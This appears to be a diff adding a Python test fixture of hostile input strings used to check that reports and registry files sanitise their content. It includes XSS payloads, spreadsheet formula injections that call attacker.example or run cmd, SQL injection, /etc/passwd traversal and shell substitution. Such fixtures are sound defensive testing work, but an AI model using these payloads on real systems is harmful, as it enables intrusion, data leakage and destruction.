@@ -1,0 +1,78 @@
+"""Text that a report or a registry file could hold to do something: run, be fetched, be computed, hide, break out of a file format."""
+
+SCRIPT = "<script>window.owned=1;alert(1)</script>"
+HTML = (
+    SCRIPT,
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "</style></title></textarea><script>alert(1)</script>",
+    "\" onmouseover=\"alert(1)\" x=\"",
+    "' onfocus='alert(1)' autofocus '",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<iframe src=\"http://attacker.example/\"></iframe>",
+    "<meta http-equiv=refresh content=\"0;url=http://attacker.example/\">",
+    "<base href=\"http://attacker.example/\">",
+    "<link rel=stylesheet href=http://attacker.example/x.css>",
+    "<form action=http://attacker.example/><button>x</button></form>",
+    "]]><script>alert(1)</script><![CDATA[",
+    "--><script>alert(1)</script><!--",
+    "{{ 7*7 }}{% raw %}{{ self.__init__ }}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+)
+MARKDOWN = (
+    "![x](http://attacker.example/pixel.png)",
+    "[x](javascript:alert(1))",
+    "[x](http://attacker.example/)",
+    "[x]: http://attacker.example/ \"t\"",
+    "<http://attacker.example/>",
+    "a | b | c",
+    "a \\| b \\\\| c",
+    "`code` ``` fence",
+    "**strong** __strong__ ~~gone~~ _it_ *it*",
+    "# heading",
+    "- item",
+    "1. item",
+    "> quote",
+    "===",
+    "|---|---|",
+    "&copy; &#60;b&#62;",
+    "http://user@attacker.example/?a=b#c",
+    "$x$ :smile: @someone #1",
+)
+FORMULAS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"press\")",
+    "=IMPORTXML(\"http://attacker.example/\",\"//a\")",
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "=1+1\",=2+2",
+    "';=1+1",
+    "{=1+1}",
+)
+HIDDEN = (
+    "ab\u202ecd\u202c",
+    "\u2066isolated\u2069",
+    "zero\u200bwidth",
+    "\ufeffmark",
+    "\u0085next\u2028line\u2029",
+)
+BREAKING = (
+    "'; DROP TABLE observation; --",
+    "\"; ATTACH '/etc/passwd' AS x; --",
+    "a''b\"\"c",
+    "quote \" comma , line\nbreak\r\nend",
+    "../../../../etc/passwd",
+    "%00%2e%2e%2f",
+    "${IFS}`id`$(id)",
+    "%s %(x)s {0} {x!r}",
+)
+ALL = (*HTML, *MARKDOWN, *FORMULAS, *HIDDEN, *BREAKING)
